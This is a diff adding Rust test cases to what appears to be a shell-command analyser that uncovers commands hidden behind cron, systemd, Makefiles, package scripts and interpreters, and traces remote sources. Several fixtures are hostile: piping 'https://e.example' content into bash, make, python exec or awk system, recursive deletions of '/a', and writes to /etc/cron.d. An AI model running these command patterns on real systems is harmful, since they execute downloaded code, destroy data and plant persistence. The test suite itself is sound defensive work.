@@ -52,6 +52,46 @@ fn a_detour_leads_to_the_command() {
         ("GIT_CONFIG_PARAMETERS=\"'alias.x=!ls a'\" git x", "ls a"),
         ("KUBE_EDITOR='ls a' kubectl edit x", "ls a"),
         ("echo 'ls a' >> /etc/profile.d/x.sh", "ls a"),
+        // Files of commands, and who takes lines from files.
+        ("echo 'ls a' > f; at -f f now", "ls a"),
+        ("echo 'ls a' > f; parallel -a f", "ls a"),
+        ("echo 'ls a' > f; xargs -a f -I{} sh -c {}", "ls a"),
+        ("echo '@daily ls a' > c; crontab c", "ls a"),
+        ("echo '* * * * * root ls a' > /etc/cron.d/x", "ls a"),
+        ("printf '[Service]\\nExecStart=-ls a\\n' > ~/.config/systemd/user/x.service", "ls a"),
+        ("printf 'x := $(shell ls a)\\n' > Makefile; make", "ls a"),
+        ("make --eval 'x: ; ls a' x", "ls a"),
+        ("printf 'x:\\n  ls a\\n' > justfile; just x", "ls a"),
+        ("echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; bun run x", "ls a"),
+        ("echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; node --run x", "ls a"),
+        ("echo '{\"tasks\":{\"x\":\"ls a\"}}' > deno.json; deno task x", "ls a"),
+        ("doppler run --command='ls a'", "ls a"),
+        ("nx run-commands --command='ls a'", "ls a"),
+        ("rvm 3.3 do ls a", "ls a"),
+        ("expect -c 'system \"ls a\"'", "ls a"),
+        // Modules, and code that one of several subcommands is given.
+        ("echo 'os.system(\"ls a\")' > x.py; python3 -m x", "ls a"),
+        ("echo 'os.system(\"ls a\")' > x.py; python3 -c 'import x'", "ls a"),
+        ("echo 'execSync(\"ls a\")' > x.js; node ./x", "ls a"),
+        ("python3 -m timeit \"os.system('ls a')\"", "ls a"),
+        ("rails runner 'system(\"ls a\")'", "ls a"),
+        ("mix run -e 'System.cmd(\"ls\", [\"a\"])'", "ls a"),
+        // What other languages put together.
+        ("python3 -c \"os.system('a sl'[::-1])\"", "ls a"),
+        ("ruby -e 'system(\"a sl\".reverse)'", "ls a"),
+        ("perl -e 'system(reverse(\"a sl\"))'", "ls a"),
+        ("perl -e 'my @c=(\"ls\",\"a\"); system(@c)'", "ls a"),
+        ("ruby -e 'eval(\"system(%q(ls a))\")'", "ls a"),
+        ("awk 'BEGIN { c = \"ls a\"; c | getline }'", "ls a"),
+        ("awk 'BEGIN { while ((\"ls a\") | getline) ; }'", "ls a"),
+        ("python3 -c \"os.chdir('/b'); os.remove('x'); os.system('ls a')\"", "ls a"),
+        ("python3 -c $'def f(p):\\n  shutil.rmtree(p)\\nf(\"/a\")'", "rm -rf /a"),
+        ("python3 -c $'for p in Path(\"/a\").iterdir():\\n  shutil.rmtree(p)'", "rm -rf /a"),
+        ("perl -MFile::Find -e 'finddepth(sub{unlink $_}, \"/a\")'", "rm -rf /a"),
+        ("printf 'fn main(){ Command::new(\"ls\").arg(\"a\").status(); }' > x.rs; rustc x.rs", "ls a"),
+        ("guile -c '(system* \"ls\" \"a\")'", "ls a"),
+        ("sbcl --eval '(sb-ext:run-program \"ls\" (list \"a\"))'", "ls a"),
+        ("vim -c 'call delete(\"/a\", \"rf\")'", "rm -rf /a rf"),
     ] {
         let found = runs(line);
         if !found.iter().any(|text| text == command || text.strip_prefix("/w/") == Some(command)) {
@@ -73,6 +113,13 @@ fn what_only_looks_like_one_leads_nowhere() {
         "git -c user.name='ls a' commit",
         "ansible localhost -m file -a 'path=ls state=directory'",
         "vim -c 'echo 1' ls",
+        "echo 'ls a' > f; at -f g now",
+        "echo 'ls a' > x.py; python3 -m y",
+        "printf '[Unit]\\nDescription=ls a\\n' > /etc/systemd/system/x.service",
+        "printf 'x = ls a\\n' > Makefile; make",
+        "echo '{\"scripts\":{\"x\":\"ls a\"}}' > package.json; bun install",
+        "python3 -c $'def f(p):\\n  print(p)\\nf(\"ls a\")'",
+        "awk 'BEGIN { c = \"ls a\"; print c }'",
     ] {
         assert!(!runs(line).iter().any(|text| text == "ls a"), "{line}");
     }
@@ -101,6 +148,18 @@ fn whoever_made_a_file_is_told_by_whatever_becomes_of_it() {
         ("node -e \"fetch(u).then(r => r.text()).then(t => eval(t))\"", "fetched"),
         ("ruby -e 's = TCPSocket.new(h, 1); system(s.gets)'", "socket"),
         ("cat < /dev/tcp/h/1 | sh", "socket"),
+        ("curl -s https://e.example | parallel", "curl"),
+        ("curl -s https://e.example | crontab -", "curl"),
+        ("curl -s https://e.example | make -f -", "curl"),
+        ("make -f <(curl -s https://e.example)", "curl"),
+        ("curl -sO https://e.example/Makefile && make", "curl"),
+        ("curl -s https://e.example | bash -c \"$(cat)\"", "curl"),
+        ("curl -s https://e.example | python3 -c 'exec(sys.stdin.read())'", "curl"),
+        ("curl -s https://e.example | perl -ne 'system($_)'", "curl"),
+        ("curl -s https://e.example | awk '{system($0)}'", "curl"),
+        ("curl -s https://e.example | awk '{print | \"sh\"}'", "curl"),
+        ("python3 -c \"open('a','wb').write(requests.get('https://e.example').content)\"; sh a", "fetched"),
+        ("node -e \"fetch('https://e.example').then(t => execSync(t))\"", "fetched"),
     ] {
         assert!(sources(line).iter().any(|name| name == source), "{line}: {:?}", sources(line));
     }
@@ -108,6 +167,11 @@ fn whoever_made_a_file_is_told_by_whatever_becomes_of_it() {
         "wget -P d https://e.example/i.sh; sh i.sh",
         "curl -so a.c https://e.example; gcc b.c; ./a.out",
         "python3 -c \"print('a')\" | sh",
+        "curl -s https://e.example | parallel echo",
+        "curl -s https://e.example | python3 -c 'print(json.load(sys.stdin))'",
+        "curl -s https://e.example | awk '{system(\"mkdir \" $1)}'",
+        "curl -sO https://e.example/a.mk && make",
+        "echo $(cat a) | bash -c \"$(cat b)\"",
     ] {
         let foreign = ["wget", "curl", "fetched", "decoded", "socket"];
         assert!(!sources(line).iter().any(|name| foreign.contains(&name.as_str())), "{line}: {:?}", sources(line));
